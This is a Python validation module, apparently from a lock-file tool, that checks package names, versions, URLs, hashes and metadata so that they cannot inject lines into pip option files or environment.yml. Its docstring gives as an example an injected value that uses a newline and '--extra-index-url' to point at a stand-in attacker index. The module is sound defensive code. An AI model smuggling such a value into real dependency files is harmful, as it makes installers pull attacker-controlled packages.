"""Every field of a lock checked before it is trusted or rendered.

A lock file is input: it may have been edited by hand or by an attacker (a pull
request that changes one line). Its fields end up in pip option files,
``environment.yml`` and shell-facing text, so a package name holding a newline
and ``--extra-index-url https://evil.example/simple`` would become a pip option
line. :func:`check_package` and :func:`check_lock` refuse any field that is not
of its kind: names as PEP 508 (pip) or conda name their packages, versions,
URLs with a known scheme and no whitespace, hashes as hex digests of their
algorithm's length, build strings, markers, and the metadata lists.

The renderers call :func:`check_lock` too, so a :class:`~compatlib.lock.model.Lock`
built in Python code gets the same protection as one read from a file.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import Any
from urllib.parse import urlsplit

from compatlib.errors import InputError

__all__ = ["HASH_LENGTHS", "METADATA_SOURCES", "check_lock", "check_metadata", "check_package"]

HASH_LENGTHS = {"md5": 32, "sha256": 64, "sha384": 96, "sha512": 128}

#: How a pip package's metadata was read (``PyPIRepository.metadata_source``;
#: ``tests/lock`` checks that the two lists agree).
METADATA_SOURCES = ("pep658", "range", "wheel", "sdist", "local", "index")

_PIP_NAME = re.compile(r"[A-Za-z0-9](?:[A-Za-z0-9._-]{0,198}[A-Za-z0-9])?")
_CONDA_NAME = re.compile(r"[A-Za-z0-9_](?:[A-Za-z0-9._+-]{0,198})")
_VERSION = re.compile(r"[A-Za-z0-9](?:[A-Za-z0-9._+!*-]{0,126})")
_BUILD = re.compile(r"[A-Za-z0-9_.+-]{0,200}")
_WORD = re.compile(r"[A-Za-z0-9_.-]{1,100}")
_PLATFORM = re.compile(r"[a-z0-9]+(?:-[a-z0-9_]+)?")
_URL_SCHEMES = ("https", "http", "file")
_CONTROL = re.compile(r"[\x00-\x1f\x7f]")


def _bad(source: str, field: str, expected: str, got: object) -> InputError:
    shown = repr(got)
    if len(shown) > 80:
        shown = shown[:77] + "..."
    return InputError(f"invalid lock field: {shown}", source=source, field=field, expected=expected)


def check_url(url: str, *, source: str, field: str, allow_empty: bool = True) -> None:
    """A URL a renderer may write: a known scheme, a parseable host, no spaces or
    control characters."""
    if not url and allow_empty:
        return
    if _CONTROL.search(url) or " " in url:
        raise _bad(source, field, "a URL without spaces or control characters", url)
    try:
        parts = urlsplit(url)
        parts.port  # noqa: B018 - parsing the port validates it
    except ValueError as exc:
        raise _bad(source, field, f"a valid URL ({exc})", url) from None
    if parts.scheme not in _URL_SCHEMES:
        raise _bad(source, field, "an https, http or file URL", url)
    if parts.scheme != "file" and not parts.hostname:
        raise _bad(source, field, "a URL with a host", url)


def _text(value: str, source: str, field: str, expected: str) -> None:
    if _CONTROL.search(value):
        raise _bad(source, field, expected, value)


def check_package(pkg: Any, *, source: str, where: str) -> None:
    """Check one :class:`~compatlib.lock.model.LockedPackage`'s fields."""
    name_re = _CONDA_NAME if pkg.manager == "conda" else _PIP_NAME
    if not name_re.fullmatch(pkg.name):
        raise _bad(source, f"{where}.name", f"a {pkg.manager} package name", pkg.name)
    if not _VERSION.fullmatch(pkg.version):
        raise _bad(source, f"{where}.version", "a version (letters, digits, . + ! -)", pkg.version)
    if pkg.manager == "pip" and "*" in pkg.version:
        raise _bad(source, f"{where}.version", "an exact version", pkg.version)
    if not _PLATFORM.fullmatch(pkg.platform):
        raise _bad(source, f"{where}.platform", "a platform such as linux-64", pkg.platform)
    check_url(pkg.url, source=source, field=f"{where}.url")
    for algorithm, digest in pkg.hashes:
        length = HASH_LENGTHS.get(algorithm)
        if length is None:
            raise _bad(source, f"{where}.hashes", "md5, sha256, sha384 or sha512", algorithm)
        if len(digest) != length or not re.fullmatch(r"[0-9a-f]+", digest):
            raise _bad(
                source,
                f"{where}.hashes.{algorithm}",
                f"{length} lowercase hex digits",
                digest,
            )
    if pkg.build is not None and not _BUILD.fullmatch(pkg.build):
        raise _bad(source, f"{where}.build", "a conda build string", pkg.build)
    if pkg.channel is not None:
        _text(pkg.channel, source, f"{where}.channel", "a channel name or URL")
        if " " in pkg.channel:
            raise _bad(source, f"{where}.channel", "a channel name or URL", pkg.channel)
    if not _WORD.fullmatch(pkg.category):
        raise _bad(source, f"{where}.category", "a category name such as main or dev", pkg.category)
    for dep, text in pkg.dependencies:
        if not (_CONDA_NAME if pkg.manager == "conda" else _PIP_NAME).fullmatch(dep):
            raise _bad(source, f"{where}.dependencies", "package names", dep)
        _text(text, source, f"{where}.dependencies.{dep}", "a requirement on one line")
    if pkg.marker is not None:
        _check_marker(pkg.marker, source, f"{where}.marker")
    metadata_source = pkg.metadata_source
    if metadata_source is not None and (
        pkg.manager != "pip" or metadata_source not in METADATA_SOURCES
    ):
        raise _bad(
            source,
            f"{where}.metadata_source",
            "for a pip package, one of " + ", ".join(METADATA_SOURCES),
            metadata_source,
        )


def _check_marker(marker: str, source: str, field: str) -> None:
    # lazy: only _check_marker needs compatlib.values.pep508, which loads 8 modules that importing this one does not
    from compatlib.values.pep508 import InvalidMarker, Marker

    if _CONTROL.search(marker):
        raise _bad(source, field, "a PEP 508 marker on one line", marker)
    try:
        Marker(marker)
    except InvalidMarker as exc:
        raise _bad(source, field, f"a PEP 508 marker ({exc})", marker) from None


def _lines(values: Iterable[Any], source: str, field: str) -> None:
    for i, value in enumerate(values):
        if not isinstance(value, str) or _CONTROL.search(value):
            raise _bad(source, f"{field}[{i}]", "strings on one line", value)


def check_metadata(metadata: Mapping[str, Any], *, source: str) -> None:
    """The metadata fields renderers write: requirements and URLs on one line,
    index and find-links URLs valid, the inputs hash hex."""
    for key in ("requirements", "constraints", "channels", "conda"):
        _lines(metadata.get(key, ()), source, f"metadata.{key}")
    for key in ("indexes", "find_links"):
        values = metadata.get(key, ())
        _lines(values, source, f"metadata.{key}")
        for i, url in enumerate(values):
            if url.startswith("compatlib-snapshot:"):
                continue
            if "://" in url:
                check_url(url, source=source, field=f"metadata.{key}[{i}]", allow_empty=False)
            elif " " in url and key == "indexes":
                raise _bad(source, f"metadata.{key}[{i}]", "a URL", url)
    digest = metadata.get("inputs_sha256")
    if digest is not None and (
        not isinstance(digest, str) or not re.fullmatch(r"[0-9a-f]{64}", digest)
    ):
        raise _bad(source, "metadata.inputs_sha256", "64 lowercase hex digits", digest)


def check_system(system: Mapping[str, Mapping[str, str]], *, source: str) -> None:
    for platform, needs in system.items():
        if not _PLATFORM.fullmatch(platform):
            raise _bad(source, "system_requirements", "a platform such as linux-64", platform)
        for layer, spec in needs.items():
            if not _WORD.fullmatch(layer):
                raise _bad(source, f"system_requirements.{platform}", "a layer name", layer)
            _text(spec, source, f"system_requirements.{platform}.{layer}", "a version range")


def check_lock(lock: Any, *, source: str = "<lock>") -> None:
    """Check every field of a :class:`~compatlib.lock.model.Lock`."""
    for i, pkg in enumerate(lock.packages):
        check_package(pkg, source=source, where=f"packages[{i}]")
    check_system(lock.system_requirements, source=source)
    check_metadata(lock.metadata, source=source)
